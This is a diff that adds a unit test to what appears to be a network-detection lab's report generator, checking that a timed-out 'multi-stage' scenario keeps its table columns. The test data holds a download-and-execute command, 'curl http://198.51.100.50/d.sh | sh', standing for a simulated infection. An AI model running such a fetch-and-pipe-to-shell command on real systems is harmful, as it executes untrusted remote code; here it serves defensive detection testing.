@@ -65,3 +65,14 @@ def test_a_scenario_with_either_of_two_types_and_a_shell_pipe_is_one_row_listed_
     assert "| beaconing or unusual_destination | none | missed | 0 |" in row
     assert "| beaconing or unusual_destination | 1 | 0 | 0 |" in text
     assert "Scenarios detected: 0 of 1 run" in text
+
+
+def test_a_scenario_whose_error_names_a_shell_pipe_is_one_row_listed_as_an_error():
+    """The multi-stage infection's victim is ``sh -c 'curl ... | sh'``: an error that names that command (a
+    timeout waiting for it) keeps the row's six columns, as its tool's pipe does."""
+    failed = ScenarioResult("multi-stage", "curl http://198.51.100.50/d.sh | sh", "beaconing|unusual_destination",
+                            error="TimeoutExpired: Command '['ip', 'netns', 'exec', 'ksab12c-web', 'sh', '-c', "
+                                  "'curl -sf http://198.51.100.50/d.sh | sh']' timed out after 10 seconds")
+    text = report([], "python -m lab.evaluate", [failed], None)
+    row = next(line for line in text.splitlines() if line.startswith("| multi-stage |"))
+    assert len(re.split(r"(?<!\\)\|", row)) == 8 and row.endswith("timed out after 10 seconds) | 0 |")
